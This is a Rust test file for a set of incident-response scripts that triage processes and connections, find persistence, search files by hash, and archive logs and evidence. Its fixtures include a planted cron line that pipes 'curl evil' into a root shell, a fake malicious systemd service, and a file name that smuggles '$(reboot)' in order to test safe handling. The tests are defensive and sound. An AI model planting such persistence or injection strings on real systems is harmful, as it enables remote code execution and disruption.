//! The scripts of `examples/library`: each is in its manifest and the other way round, and those for Linux do what they say.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use toml::Table;

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/library")
}

fn manifest() -> Table {
    let text = fs::read_to_string(folder().join("library.toml")).expect("library.toml");
    let mut manifest: Table = text.parse().expect("library.toml is TOML");
    match manifest.remove("files") {
        Some(toml::Value::Table(files)) => files,
        other => panic!("library.toml has no files but {other:?}"),
    }
}

fn text<'a>(files: &'a Table, file: &str, key: &str) -> &'a str {
    let value = files[file].get(key).unwrap_or_else(|| panic!("{file} has no {key}"));
    value.as_str().unwrap_or_else(|| panic!("{key} of {file} is no text"))
}

fn scripts() -> BTreeSet<String> {
    let folder = folder();
    walkdir::WalkDir::new(&folder)
        .into_iter()
        .map(|entry| entry.expect("a readable folder").into_path())
        .filter(|path| path.extension().is_some_and(|end| end == "sh" || end == "ps1"))
        .map(|path| path.strip_prefix(&folder).expect("below the folder").to_str().expect("UTF-8").to_owned())
        .collect()
}

/// `--json`, `-Json` and their like, as a text names them.
fn parameters(text: &str) -> BTreeSet<String> {
    let pattern = regex_lite::Regex::new(r"(?:^|[\s\[|])(--?[A-Za-z][A-Za-z0-9-]*)").expect("a pattern");
    pattern.captures_iter(text).map(|found| found[1].to_owned()).collect()
}

/// The comment at the top of a script.
fn head(script: &str) -> String {
    let text = fs::read_to_string(folder().join(script)).expect("a script");
    if script.ends_with(".ps1") {
        assert!(text.is_ascii(), "{script}: Windows PowerShell 5.1 reads only ASCII in any locale");
        return text.split("#>").next().expect("a comment").to_owned();
    }
    text.lines().take_while(|line| line.starts_with('#')).collect::<Vec<_>>().join("\n")
}

#[test]
fn the_manifest_has_every_script_and_nothing_else() {
    let files = manifest();
    assert_eq!(files.keys().cloned().collect::<BTreeSet<_>>(), scripts());
    let readme = fs::read_to_string(folder().join("README.md")).expect("README.md");
    let mut names = BTreeSet::new();
    for file in files.keys() {
        let (platform, own_name) = file.split_once('/').expect("a folder for each platform");
        let name = text(&files, file, "name");
        assert_eq!(name, format!("{platform}-{own_name}"));
        assert!(names.insert(name.to_lowercase()), "two files are called {name}");
        assert!(!text(&files, file, "description").is_empty(), "{file}");
        assert!(text(&files, file, "category").len() <= 64, "{file}");
        assert_eq!(files[file]["platforms"], toml::Value::from(vec![platform]), "{file}");
        assert!(readme.contains(&format!("]({file})")), "README.md does not name {file}");
    }
}

#[test]
fn parameters_are_told_as_the_scripts_have_them() {
    let files = manifest();
    for file in files.keys() {
        let told = parameters(text(&files, file, "parametersDescription"));
        let head = head(file);
        let usage: String = head
            .lines()
            .skip_while(|line| !line.contains("usage:"))
            .take_while(|line| line.trim() != "#" && !line.is_empty())
            .collect();
        assert_eq!(told, parameters(&usage), "{file}");
        let explained = parameters(&head);
        assert!(told.is_subset(&explained), "{file}");
        assert!(head.contains("Exit code"), "{file}");
    }
}

#[cfg(target_os = "linux")]
mod linux {
    use std::io::Read as _;
    use std::os::unix::fs::PermissionsExt as _;
    use std::process::{Command, Output};

    use super::*;

    fn run(script: &str, files: &Path, arguments: &[&str]) -> Output {
        // As the agent does: what the first line names, in the folder that is filled, with little else.
        Command::new("bash")
            .arg(folder().join("linux").join(script))
            .args(arguments)
            .current_dir(files)
            .env("JUMPBAG_FILES", files)
            .output()
            .expect("bash")
    }

    fn said(output: &Output) -> String {
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
    }

    /// What a run that ends well prints.
    fn well(script: &str, files: &Path, arguments: &[&str]) -> String {
        let output = run(script, files, arguments);
        assert_eq!(output.status.code(), Some(0), "{script} {arguments:?}: {}", said(&output));
        String::from_utf8(output.stdout).expect("UTF-8")
    }

    /// The objects that a run with `--json` prints.
    fn objects(script: &str, files: &Path, arguments: &[&str]) -> Vec<serde_json::Value> {
        let printed = well(script, files, arguments);
        printed
            .lines()
            .map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}")))
            .collect()
    }

    /// The names and contents in the archive that a run says it left, which is all it left.
    fn archive(files: &Path, printed: &str) -> Vec<(String, Vec<u8>)> {
        let name = printed.lines().find_map(|line| line.strip_prefix("archive: ")).expect("an archive");
        let left: Vec<_> = fs::read_dir(files)
            .expect("a folder")
            .map(|entry| entry.expect("an entry").file_name())
            .collect();
        assert_eq!(left, [name]);
        let bytes = fs::read(files.join(name)).expect("the archive");
        assert!(printed.contains(&format!("size: {}\n", bytes.len())), "{printed}");
        assert!(printed.contains(&format!("sha256: {}\n", sha256(&bytes))), "{printed}");
        let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(&bytes[..]));
        let entries = archive.entries().expect("a tar archive").map(|entry| {
            let mut entry = entry.expect("an entry");
            let mut content = Vec::new();
            entry.read_to_end(&mut content).expect("its content");
            (entry.path().expect("its name").to_string_lossy().trim_start_matches("./").to_owned(), content)
        });
        entries.collect()
    }

    fn sha256(bytes: &[u8]) -> String {
        use sha2::Digest as _;
        sha2::Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
    }

    fn folders() -> (tempfile::TempDir, PathBuf, PathBuf) {
        let all = tempfile::tempdir().expect("a folder");
        let (files, evidence) = (all.path().join("files"), all.path().join("evidence with\nodd \"name"));
        fs::create_dir(&files).expect("a folder");
        fs::create_dir(&evidence).expect("a folder");
        (all, files, evidence)
    }

    #[test]
    fn every_script_tells_its_parameters_and_refuses_others() {
        let (_all, files, _) = folders();
        let manifest = manifest();
        for file in manifest.keys().filter(|file| file.starts_with("linux/")) {
            let script = file.strip_prefix("linux/").expect("a script for Linux");
            let help = well(script, &files, &["--help"]);
            let told = parameters(text(&manifest, file, "parametersDescription"));
            assert!(told.is_subset(&parameters(&help)), "{script}: {help}");
            for wrong in [&["--no-such-thing"][..], &["--max-mb"], &["--limit", "many"], &["--json=yes"]] {
                let output = run(script, &files, wrong);
                assert_eq!(output.status.code(), Some(2), "{script} {wrong:?}: {}", said(&output));
                assert!(said(&output).contains("--help tells more"), "{script}");
            }
            let mode = fs::metadata(folder().join(file)).expect("a script").permissions().mode();
            assert_eq!(mode & 0o111, 0o111, "{script} cannot be executed");
        }
        assert_eq!(fs::read_dir(&files).expect("a folder").count(), 0);
    }

    #[test]
    fn scripts_for_macos_say_so() {
        let (_all, files, _) = folders();
        for script in scripts().iter().filter(|script| script.starts_with("macos/")) {
            let run = |argument: &[&str]| {
                Command::new("sh")
                    .arg(folder().join(script))
                    .args(argument)
                    .current_dir(&files)
                    .output()
                    .expect("sh")
            };
            let output = run(&[]);
            assert_eq!(
                (output.status.code(), said(&output).as_str()),
                (Some(1), "this script is for macOS\n"),
                "{script}"
            );
            assert_eq!(run(&["--no-such-thing"]).status.code(), Some(2), "{script}");
            let help = run(&["--help"]);
            assert!(
                help.status.success() && said(&help).contains("usage: macos-"),
                "{script}: {}",
                said(&help)
            );
        }
    }

    #[test]
    fn triage_sees_a_process_with_odd_names() {
        let (_all, files, evidence) = folders();
        let program = evidence.join("sle\u{e9}p \\");
        fs::copy("/bin/sleep", &program).expect("a copy");
        let mut child = Command::new(&program).arg("600").spawn().expect("a process");
        fs::remove_file(&program).expect("gone");
        // Another's process may hide something, which makes the exit code 1.
        let output = run("triage.sh", &files, &["--only", "processes", "--json"]);
        child.kill().expect("its end");
        child.wait().expect("its end");
        assert!(matches!(output.status.code(), Some(0 | 1)), "{}", said(&output));
        let printed = String::from_utf8(output.stdout).expect("UTF-8");
        let all: Vec<serde_json::Value> =
            printed.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
        let found = all.iter().find(|one| one["pid"] == child.id()).expect("the process");
        assert_eq!(found["exe"], format!("{} (deleted)", program.display()));
        assert_eq!(found["sha256"], sha256(&fs::read("/bin/sleep").expect("sleep")));
        assert!(found["note"].as_str().is_some_and(|note| note.contains("its file is gone")), "{found}");
        assert_eq!(found["command"], format!("{} 600", program.display()));
    }

    #[test]
    fn triage_names_the_process_of_a_connection() {
        let (_all, files, _) = folders();
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
        let here = listener.local_addr().expect("an address").to_string();
        let output = run("triage.sh", &files, &["--only=connections,host", "--json"]);
        let printed = String::from_utf8(output.stdout).expect("UTF-8");
        let line = printed.lines().find(|line| line.contains(&format!("\"{here}\""))).expect("the listener");
        let found: serde_json::Value = serde_json::from_str(line).expect("JSON");
        assert_eq!((&found["state"], &found["protocol"]), (&"listen".into(), &"tcp".into()));
        assert_eq!(found["pid"], std::process::id());
    }

    #[test]
    fn persistence_reads_a_system_below_a_folder() {
        let (_all, files, root) = folders();
        let put = |path: &str, text: &str| {
            let path = root.join(path);
            fs::create_dir_all(path.parent().expect("a parent")).expect("a folder");
            fs::write(path, text).expect("a file");
        };
        put("etc/passwd", "anna:x:1000:1000::/home/anna:/bin/sh\n");
        put("etc/systemd/system/evil.service", "[Service]\nExecStart=/tmp/evil \"x\"\n");
        put("etc/cron.d/a b", "# a remark\n* * * * * root curl evil | sh\n");
        put("home/anna/.ssh/authorized_keys", "ssh-ed25519 AAAA them@there");
        let found = objects("persistence.sh", &files, &["--root", root.to_str().expect("UTF-8"), "--json"]);
        let found: Vec<_> = found
            .iter()
            .map(|one| ["kind", "path", "what"].map(|key| one[key].as_str().unwrap_or("-")))
            .collect();
        assert_eq!(
            found,
            [
                ["systemd", "/etc/systemd/system/evil.service", "ExecStart=/tmp/evil \"x\""],
                ["cron", "/etc/cron.d/a b", "* * * * * root curl evil | sh"],
                ["ssh-key", "/home/anna/.ssh/authorized_keys", "ssh-ed25519 AAAA them@there"],
            ]
        );
    }

    #[test]
    fn files_are_found_by_digest_name_and_time() {
        let (_all, files, evidence) = folders();
        let path = |name: &str| evidence.join(name).to_str().expect("UTF-8").to_owned();
        let odd = path("-rf $(reboot)\n\\.PHP");
        fs::write(&odd, "evil").expect("a file");
        fs::write(path("good.php"), "good").expect("a file");
        fs::write(path("other"), "other").expect("a file");
        fs::write(
            files.join("bad.txt"),
            format!("# bad ones\n{} a remark\r\n", sha256(b"evil").to_uppercase()),
        )
        .expect("a list");
        let place = evidence.to_str().expect("UTF-8");
        let found = |arguments: &[&str]| -> BTreeSet<String> {
            let all = objects("find-files.sh", &files, &[arguments, &["--json", "--", place]].concat());
            all.iter().map(|one| one["path"].as_str().expect("a path").to_owned()).collect()
        };
        assert_eq!(found(&["--sha256-list", "bad.txt"]), BTreeSet::from([odd.clone()]));
        assert_eq!(found(&["--name", "*.php"]), BTreeSet::from([odd.clone(), path("good.php")]));
        assert_eq!(
            found(&["--name=*.php", "--sha256", &sha256(b"good")]),
            BTreeSet::from([path("good.php")])
        );
        assert_eq!(found(&["--changed-within", "1"]).len(), 3);
        assert_eq!(found(&["--changed-within", "1", "--limit=2"]).len(), 2);
        assert_eq!(found(&["--executable"]), BTreeSet::new());
    }

    #[test]
    fn logs_come_as_an_archive() {
        let (_all, files, evidence) = folders();
        fs::write(evidence.join("app.log"), "something happened\n").expect("a log");
        let old = fs::File::create(evidence.join("old.log")).expect("a log");
        old.set_modified(std::time::SystemTime::now() - std::time::Duration::from_secs(7200))
            .expect("a time");
        let printed = well(
            "logs.sh",
            &files,
            &["--no-journal", "--hours", "1", "--folder", evidence.to_str().expect("UTF-8")],
        );
        let logs: Vec<_> =
            archive(&files, &printed).into_iter().filter(|(name, _)| name.ends_with(".log")).collect();
        let [(name, content)] = &logs[..] else { panic!("{logs:?}") };
        assert_eq!(
            (name.as_str(), &content[..]),
            (&*format!("files{}/app.log", evidence.display()), &b"something happened\n"[..])
        );
    }

    #[test]
    fn a_process_comes_as_an_archive_without_its_secrets() {
        let (_all, files, _) = folders();
        let mut child = Command::new("sleep")
            .arg("600")
            .env_clear()
            .env("TOKEN", "very secret")
            .spawn()
            .expect("a process");
        let printed = well("process.sh", &files, &["--pid", &child.id().to_string(), "--freeze"]);
        let state = fs::read_to_string(format!("/proc/{}/stat", child.id())).expect("a state");
        child.kill().expect("its end");
        child.wait().expect("its end");
        assert!(!state.contains(") T "), "the process is still stopped: {state}");
        let archive = archive(&files, &printed);
        let content = |name: &str| {
            &archive.iter().find(|entry| entry.0 == name).unwrap_or_else(|| panic!("no {name}")).1[..]
        };
        assert_eq!(content("cmdline"), b"sleep\n600\n");
        assert_eq!(content("environment"), b"TOKEN\n");
        assert_eq!(sha256(content("program")), sha256(&fs::read("/bin/sleep").expect("sleep")));
        assert!(!content("maps").is_empty());
    }

    #[test]
    fn evidence_is_copied_locked_and_unlocked() {
        let (_all, files, evidence) = folders();
        let path = evidence.join("--lock me");
        fs::write(&path, "evil").expect("a file");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o751)).expect("a mode");
        let mode = || fs::metadata(&path).expect("the file").permissions().mode() & 0o7777;
        let arguments = |more: &[&'static str]| [more, &["--"]].concat();
        let name = path.to_str().expect("UTF-8");

        let printed = well("collect-file.sh", &files, &[&arguments(&["--lock"])[..], &[name]].concat());
        assert_eq!(mode(), 0);
        let archive = archive(&files, &printed);
        let content = |name: &str| archive.iter().find(|entry| entry.0 == name).map(|entry| &entry.1[..]);
        assert_eq!(content("1.bin"), Some(&b"evil"[..]));
        let about = String::from_utf8(content("about.txt").expect("about.txt").to_vec()).expect("UTF-8");
        assert!(about.contains(&format!("sha256: {}\nmode: 751\n", sha256(b"evil"))), "{about}");
        assert!(about.contains("--unlock 751"), "{about}");

        well("collect-file.sh", &files, &[&arguments(&["--unlock", "751"])[..], &[name]].concat());
        assert_eq!(mode(), 0o751);

        std::os::unix::fs::symlink(&path, evidence.join("link")).expect("a link");
        let output = run(
            "collect-file.sh",
            &files,
            &["--unlock", "000", evidence.join("link").to_str().expect("UTF-8")],
        );
        assert_eq!((output.status.code(), mode()), (Some(1), 0o751), "{}", said(&output));
    }
}
